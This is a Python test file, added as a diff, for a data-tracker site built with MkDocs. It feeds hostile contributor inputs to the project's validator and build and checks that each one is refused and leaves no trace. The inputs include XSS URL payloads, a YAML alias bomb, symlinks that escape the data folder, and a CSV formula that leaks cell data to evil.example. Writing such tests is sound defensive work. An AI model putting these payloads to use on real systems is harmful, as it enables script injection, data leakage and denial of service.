@@ -1,0 +1,394 @@
+"""A hostile contributor's inputs: each is refused with a clear message, never a traceback or a
+hang, and the last good site stays exactly as it was.
+
+Each case is the input as the security review found it; `make validate` and `mkdocs build`
+both run on it as a contributor would run them.
+"""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import io
+import os
+import shutil
+import subprocess
+import sys
+import time
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from bs4 import BeautifulSoup
+from conftest import FIXTURE_DATA, mkdocs_build
+
+from tracker import load as load_module
+from tracker.load import DataError, load
+
+Edit = Callable[[Path], None]
+
+
+def digest(site: Path) -> dict[str, str]:
+    """Every file of a built site with a hash of its bytes."""
+    return {
+        str(p.relative_to(site)): hashlib.sha256(p.read_bytes()).hexdigest() for p in site.rglob("*") if p.is_file()
+    }
+
+
+@pytest.fixture(scope="module")
+def good_site(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str]]:
+    out = tmp_path_factory.mktemp("good") / "site"
+    result = mkdocs_build(out, env={"SOURCE_DATE_EPOCH": "1700000000"})
+    assert result.returncode == 0, result.stderr
+    return out, digest(out)
+
+
+def validate(data: Path) -> subprocess.CompletedProcess:
+    return subprocess.run(
+        [sys.executable, "-m", "tracker.validate", str(data)],
+        cwd=data.parent,
+        capture_output=True,
+        text=True,
+        timeout=60,  # a hang fails the test instead of stalling the suite
+        check=False,
+    )
+
+
+def replace(relative: str, old: str, new: str) -> Edit:
+    def edit(data: Path) -> None:
+        path = data / relative
+        text = path.read_text(encoding="utf-8")
+        assert old in text, f"{old!r} not in {relative}"
+        path.write_text(text.replace(old, new, 1), encoding="utf-8")
+
+    return edit
+
+
+def prefix(relative: str, key: str, text: str) -> Edit:
+    """Put ``text`` before the value of ``key`` (a plain scalar), as a folded block, so that
+    no YAML quoting rule gets in the way of the payload."""
+
+    def edit(data: Path) -> None:
+        path = data / relative
+        lines = path.read_text(encoding="utf-8").splitlines()
+        at = next(i for i, line in enumerate(lines) if line.lstrip().startswith(f"{key}: "))
+        indent = lines[at][: len(lines[at]) - len(lines[at].lstrip())]
+        value = lines[at].split(": ", 1)[1]
+        lines[at : at + 1] = [f"{indent}{key}: >-", f"{indent}  {text} {value}"]
+        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
+
+    return edit
+
+
+def write(relative: str, text: str) -> Edit:
+    def edit(data: Path) -> None:
+        path = data / relative
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text, encoding="utf-8")
+
+    return edit
+
+
+def symlink(relative: str, target: Callable[[Path], Path]) -> Edit:
+    def edit(data: Path) -> None:
+        (data / relative).symlink_to(target(data))
+
+    return edit
+
+
+def fifo(relative: str) -> Edit:
+    def edit(data: Path) -> None:
+        os.mkfifo(data / relative)
+
+    return edit
+
+
+def outside_file(data: Path) -> Path:
+    secret = data.parent / "secret.yml"
+    secret.write_text("name: Secret\nsummary: Not part of the data.\ncite: [alpha-report]\n")
+    return secret
+
+
+def outside_folder_with_a_broken_file(data: Path) -> Path:
+    folder = data.parent / "elsewhere"
+    folder.mkdir()
+    (folder / "broken.yml").write_text("name: [unclosed\n")
+    return folder
+
+
+ALIAS_BOMB = "\n".join(
+    [
+        'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
+        *(
+            f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},"
+            f"*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)}]"
+            for i in range(8)
+        ),
+        "name: Bomb",
+        "summary: [*i]",
+        "cite: [alpha-report]",
+    ]
+)
+
+# (what the review tried, the edit, what validation must say)
+REFUSED: list[tuple[str, Edit, str]] = [
+    (
+        "source url breaking out into an img tag",
+        replace(
+            "sources/alpha-report.yml",
+            "url: https://example.org/alpha-report",
+            'url: "https://x.example/><img/src/onerror=alert(1)>"',
+        ),
+        "alpha-report.yml:7:6: 'https://x.example/><img/src/onerror=alert(1)>' is not a web address: "
+        "it may not contain '>'",
+    ),
+    (
+        "source url carrying a script tag",
+        replace(
+            "sources/alpha-report.yml",
+            "url: https://example.org/alpha-report",
+            'url: "https://x.example/<script>alert(1)</script>"',
+        ),
+        "is not a web address: it may not contain '<'",
+    ),
+    (
+        "source url opening a details element",
+        replace(
+            "sources/alpha-report.yml",
+            "url: https://example.org/alpha-report",
+            'url: "https://x.example/\\"><details open ontoggle=alert(1)>"',
+        ),
+        "is not a web address: it may not contain '\"'",
+    ),
+    (
+        "javascript: url",
+        replace("sources/alpha-report.yml", "url: https://example.org/alpha-report", "url: javascript:alert(1)"),
+        "'javascript:alert(1)' is not a web address: it should start with http:// or https://",
+    ),
+    (
+        "data: url",
+        replace("sources/alpha-report.yml", "url: https://example.org/alpha-report", "url: data:text/html,hi"),
+        "is not a web address: it should start with http:// or https://",
+    ),
+    (
+        "year 9999",
+        replace("events/harbour-summit.yml", "date: 2021-06-14", "date: 9999-12-31"),
+        "harbour-summit.yml:3:7: '9999-12-31' is out of range: dates run from 1800 to 2199",
+    ),
+    (
+        "year 0000",
+        replace("figures/harbour-count.yml", "as_of: 2021-06-14", 'as_of: "0000"'),
+        "harbour-count.yml:4:8: '0000' is out of range",
+    ),
+    (
+        "a control character in a name",
+        replace("sectors/harbours.yml", "name: Harbours", 'name: "Harb\\x01ours"'),
+        "harbours.yml:1:7: remove the control character U+0001",
+    ),
+    (
+        "a NUL character in a name",
+        replace("sectors/harbours.yml", "name: Harbours", 'name: "Harb\\0ours"'),
+        "harbours.yml:1:7: remove the control character U+0000",
+    ),
+    (
+        "a file name ending in a newline",
+        write("sectors/evil\n.yml", "name: Evil\nsummary: A sector.\ncite: [alpha-report]\n"),
+        "'evil\\n' is not a valid id for a file name",
+    ),
+    (
+        "a record named index, in place of the section's index page",
+        write("sectors/index.yml", "name: Index\nsummary: A sector.\ncite: [alpha-report]\n"),
+        "sectors/index.yml:1:1: 'index' is reserved for the site's own pages and files",
+    ),
+    (
+        "a YAML alias bomb",
+        write("sectors/bomb.yml", ALIAS_BOMB),
+        "bomb.yml:1:4: anchors and aliases (&name, *name) are not allowed in data files",
+    ),
+    (
+        "a recursive anchor",
+        write("sectors/loop.yml", "name: Loop\nsummary: &a [*a]\ncite: [alpha-report]\n"),
+        "loop.yml:2:10: anchors and aliases (&name, *name) are not allowed in data files",
+    ),
+    ("a FIFO named like a record", fifo("sectors/pipe.yml"), "pipe.yml:1:1: is not a regular file"),
+    (
+        "a link to /dev/zero",
+        symlink("sectors/zero.yml", lambda _: Path("/dev/zero")),
+        "zero.yml:1:1: is a link to a file outside the data folder",
+    ),
+    (
+        "a link to a file outside data/",
+        symlink("sectors/secret.yml", outside_file),
+        "secret.yml:1:1: is a link to a file outside the data folder",
+    ),
+    (
+        "a broken link",
+        symlink("sectors/gone.yml", lambda data: data / "sectors" / "nothing-here.yml"),
+        "gone.yml:1:1: is a link to nothing",
+    ),
+    (
+        "a linked folder that loops",
+        symlink("sectors/loop", lambda data: data / "sectors"),
+        "sectors/loop:1:1: is a link to a folder: records are read from real folders only",
+    ),
+    (
+        "a linked folder holding a broken file",
+        symlink("extra", outside_folder_with_a_broken_file),
+        "extra:1:1: is a link to a folder",
+    ),
+    (
+        "agreements that upgrade each other",
+        replace(
+            "agreements/harbour-accord.yml",
+            "sectors: [harbours]\nsummary: An accord",
+            "relations:\n  - type: upgrades\n    agreement: harbour-mou\n    cite: [alpha-report]\n"
+            "sectors: [harbours]\nsummary: An accord",
+        ),
+        "'harbour-mou' leads back to this record (harbour-accord → harbour-mou → harbour-accord)",
+    ),
+    (
+        "a file far larger than any record",
+        write("sectors/huge.yml", "name: Huge\nsummary: " + "x" * 300_000 + "\ncite: [alpha-report]\n"),
+        "huge.yml:1:1: larger than 256 KiB",
+    ),
+]
+
+
+@pytest.mark.parametrize(("what", "edit", "message"), REFUSED, ids=[case[0] for case in REFUSED])
+def test_bad_input_is_refused_and_the_last_good_site_stays(
+    what: str, edit: Edit, message: str, tmp_path: Path, good_site: tuple[Path, dict[str, str]]
+) -> None:
+    data = tmp_path / "data"
+    shutil.copytree(FIXTURE_DATA, data)
+    edit(data)
+    checked = validate(data)
+    assert checked.returncode == 1, checked.stdout
+    assert message in checked.stderr
+    assert "Traceback" not in checked.stderr
+    # The build refuses the same data, and the site built before is untouched.
+    site = tmp_path / "site"
+    shutil.copytree(good_site[0], site)
+    temp = tmp_path / "tmp"
+    temp.mkdir()
+    built = mkdocs_build(site, data=data, env={"TMPDIR": str(temp)})
+    assert built.returncode == 1
+    assert message in built.stderr
+    assert "Traceback" not in built.stderr
+    assert digest(site) == good_site[1]
+    assert list(temp.iterdir()) == [], "a failed build left temporary files"
+    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
+        n for n in ("data", "site", "tmp", "secret.yml", "elsewhere") if (tmp_path / n).exists()
+    ), "a failed build left its staging folder beside the site"
+
+
+def test_editor_files_and_hidden_files_are_not_records(tmp_path: Path) -> None:
+    data = tmp_path / "data"
+    shutil.copytree(FIXTURE_DATA, data)
+    # Emacs' lock file is a broken link named .#<file>; Vim and backups leave others.
+    (data / "sectors" / ".#harbours.yml").symlink_to("user@host.1234:1700000000")
+    (data / "sectors" / "#harbours.yml#").write_text("name: [autosave")
+    (data / "sectors" / "harbours.yml~").write_text("name: [backup")
+    (data / "sectors" / ".harbours.yml.swp").write_bytes(b"\0\1binary")
+    checked = validate(data)
+    assert checked.returncode == 0, checked.stderr
+    assert "15 records, no problems" in checked.stdout
+
+
+def test_a_strict_mode_abort_after_pages_were_written_keeps_the_last_good_site(
+    project_copy: Path, tmp_path: Path, good_site: tuple[Path, dict[str, str]]
+) -> None:
+    # A hand-written page with a broken link: MkDocs writes every page, then aborts in
+    # strict mode after on_post_build.
+    (project_copy / "docs" / "broken.md").write_text("# Broken\n\n[nowhere](nowhere.md)\n")
+    site = tmp_path / "site"
+    shutil.copytree(good_site[0], site)
+    built = mkdocs_build(site, project=project_copy)
+    assert built.returncode == 1
+    assert "Aborted with" in built.stdout + built.stderr
+    assert digest(site) == good_site[1]
+    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".site")] == []
+
+
+def test_a_successful_build_replaces_the_site_whole(tmp_path: Path, good_site: tuple[Path, dict[str, str]]) -> None:
+    site = tmp_path / "site"
+    shutil.copytree(good_site[0], site)
+    (site / "left-over.html").write_text("from an older build")
+    built = mkdocs_build(site, env={"SOURCE_DATE_EPOCH": "1700000000"})
+    assert built.returncode == 0, built.stderr
+    assert digest(site) == good_site[1]
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["site"]
+
+
+def test_derived_text_cannot_break_out_of_its_attribute(tmp_path: Path) -> None:
+    payload = "[x](autofocus/onfocus=alert(1)//)"
+    data = tmp_path / "data"
+    shutil.copytree(FIXTURE_DATA, data)
+    prefix("events/harbour-talks.yml", "derived", payload)(data)
+    prefix("agreements/harbour-accord.yml", "derived", payload)(data)
+    prefix("agreements/harbour-accord.yml", "name", payload)(data)
+    site = tmp_path / "site"
+    built = mkdocs_build(site, data=data)
+    assert built.returncode == 0, built.stderr
+    for page in ("events/harbour-talks/index.html", "agreements/harbour-accord/index.html", "timeline/index.html"):
+        soup = BeautifulSoup((site / page).read_text(encoding="utf-8"), "html.parser")
+        handlers = [(t.name, a) for t in soup.find_all(True) for a in t.attrs if a.lower().startswith("on")]
+        assert handlers == [], page
+        titles = [t["title"] for t in soup.select(".tk-derived")]
+        assert any(payload in title for title in titles), page
+    timeline = BeautifulSoup((site / "timeline/index.html").read_text(encoding="utf-8"), "html.parser")
+    labels = [a["aria-label"] for a in timeline.select(".tk-axis a")]
+    assert any(f"{payload} Harbour Accord" in label for label in labels)
+
+
+def test_two_thousand_unknown_keys_are_each_reported_from_one_parse(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    data = tmp_path / "data"
+    shutil.copytree(FIXTURE_DATA, data)
+    extra = "".join(f"unknown{i}: x\n" for i in range(2000))
+    write("sectors/keys.yml", f"name: Keys\nsummary: Many keys.\ncite: [alpha-report]\n{extra}")(data)
+    parses = []
+    compose = load_module._compose
+    monkeypatch.setattr(load_module, "_compose", lambda text: parses.append(1) or compose(text))
+    started = time.perf_counter()
+    with pytest.raises(DataError) as err:
+        load(data)
+    elapsed = time.perf_counter() - started
+    assert len(err.value.problems) == 2000
+    assert str(err.value.problems[0]).endswith("keys.yml:4:1: unknown key 'unknown0'")
+    assert len(parses) == 16  # one per file: 15 records and the bad one
+    print(f"2,000 problems in one file reported in {elapsed:.2f} s")
+
+
+def test_the_published_csv_cannot_carry_a_live_formula(tmp_path: Path) -> None:
+    from tracker import export
+    from tracker.queries import Queries
+
+    data = tmp_path / "data"
+    shutil.copytree(FIXTURE_DATA, data)
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
+    prefix("agreements/harbour-mou.yml", "summary", formula)(data)
+    prefix("sectors/harbours.yml", "name", "+1+1")(data)
+    prefix("agreements/harbour-accord.yml", "short_name", "@SUM(A1)")(data)
+    prefix("events/harbour-summit.yml", "place", "-2+3")(data)
+    files = export.files(Queries(load(data)), "https://example.org/")
+    cells = []
+    for path, content in files.items():
+        if path.endswith(".csv"):
+            cells += [cell for row in csv.reader(io.StringIO(content.lstrip("\ufeff"))) for cell in row]
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+    assert any(cell.startswith(f"'{formula} Sets up joint training") for cell in cells)
+    assert "'+1+1 Harbours" in cells
+    assert "'@SUM(A1) HA" in cells
+    assert "'-2+3 Port Alpha" in cells
+
+
+def test_no_temporary_folder_is_left_by_a_build_that_fails_late(project_copy: Path, tmp_path: Path) -> None:
+    (project_copy / "tracker" / "templates" / "sector.md.j2").write_text("{{ q.no_such_query() }}\n")
+    temp = tmp_path / "tmp"
+    temp.mkdir()
+    built = mkdocs_build(tmp_path / "out" / "site", project=project_copy, env={"TMPDIR": str(temp)})
+    assert built.returncode == 1
+    assert "sector.md.j2:1" in built.stderr, built.stderr
+    assert list(temp.iterdir()) == []
+    assert list((tmp_path / "out").iterdir()) == []
